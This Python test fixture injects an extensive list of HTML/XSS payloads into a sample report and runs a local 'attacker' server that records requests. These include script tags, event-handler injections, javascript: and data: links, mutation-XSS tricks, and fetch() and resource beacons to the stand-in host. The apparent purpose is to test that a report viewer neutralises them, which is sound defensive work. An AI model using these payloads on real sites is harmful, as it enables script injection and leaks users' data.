"""A report that attacks whoever looks at it, and a server that sees whether it succeeded."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import fixtures

#: Before and after the report's body, ``HERE`` being where the attacker listens.
ATTACKS = """
<script src="HERE/script.js"></script><script>document.title='owned';fetch('HERE/fetch')</script>
<meta http-equiv="refresh" content="0; url=HERE/refresh"><base href="HERE/base/">
<link rel="stylesheet" href="HERE/style.css"><link rel="prefetch" href="HERE/prefetch">
<style>@import url(HERE/import.css); body{background:url(HERE/background.png)}</style>
<p style="background-image:url(HERE/css.png)" onclick="fetch('HERE/click')">攻击</p>
<img src="HERE/picture.png" srcset="HERE/set.png 2x" onerror="document.title='owned'" alt="照片">
<svg onload="document.title='owned'"><image href="HERE/svg.png"/><script>1</script>
<foreignObject><iframe src="HERE/foreign"></iframe></foreignObject></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror="document.title='owned'"></style></math>
<iframe src="HERE/frame" srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<object data="HERE/object"></object><embed src="HERE/embed"><video src="HERE/video" autoplay>
</video><audio src="HERE/audio" autoplay></audio>
<form action="HERE/form"><input autofocus onfocus="document.title='owned'" value="填写">
<button formaction="HERE/button">提交</button></form>
<a href="javascript:document.title='owned'" id="cell">脚本链接</a>
<a href="HERE/link" ping="HERE/ping" target="_top">外部链接</a>
<a href="data:text/html,<script>document.title='owned'</script>">数据链接</a>
<noscript><p title="</noscript><img src=x onerror=document.title='owned'>"></p></noscript>
<template><script>document.title='owned'</script></template>
<textarea></textarea><script>document.title='owned'</script>
<xmp><img src=x onerror="document.title='owned'"></xmp>
<p title='"><img src=x onerror=alert(1)>'>&lt;script&gt;document.title='owned'&lt;/script&gt;</p>
<body onload="document.title='owned'" background="HERE/body.png">
"""


def hostile_report(here: str) -> bytes:
    """A report of the sample web that can be read, full of attacks."""
    pages = (p.read_bytes() for p, e in fixtures.report_files() if "requests" in e["tables"])
    text = next(page for page in pages if b"<table" in page and b'"utf-8"' in page).decode("utf-8")
    attacks = ATTACKS.replace("HERE", here)
    head, body, rest = text.partition("</body>")
    start, tag, middle = head.partition("<table")
    assert body
    assert tag
    attributes = f' onmouseover="fetch(\'{here}/over\')" background="{here}/table.png"'
    return f"{start}{attacks}{tag}{attributes}{middle}{attacks}{body}{rest}".encode()


@contextmanager
def attacker() -> Iterator[tuple[str, list[str]]]:
    """Its address, and the paths that were asked of it; it also serves its page at ``/page``."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            body = hostile_report(here) if self.path == "/page" else b""
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *arguments: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    here = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield here, asked
    finally:
        server.shutdown()
        server.server_close()
